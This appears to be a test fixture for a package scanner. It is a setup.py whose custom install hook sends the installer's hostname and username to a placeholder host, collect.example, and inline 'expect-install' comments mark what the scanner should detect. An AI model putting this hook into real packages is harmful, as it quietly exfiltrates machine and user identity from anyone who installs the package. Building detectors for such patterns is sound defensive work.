# path: setup.py
from setuptools import setup
from setuptools.command.install import install
import requests
import socket
import getpass


class CustomInstall(install):  # expect-install: install-hook
    def run(self):
        install.run(self)
        host = socket.gethostname()  # expect-install: host-fingerprint
        requests.get("http://collect.example", params={"h": host, "u": getpass.getuser()})  # expect-install: perm-network


setup(name="x", version="1.0", cmdclass={"install": CustomInstall})  # expect-install: install-hook
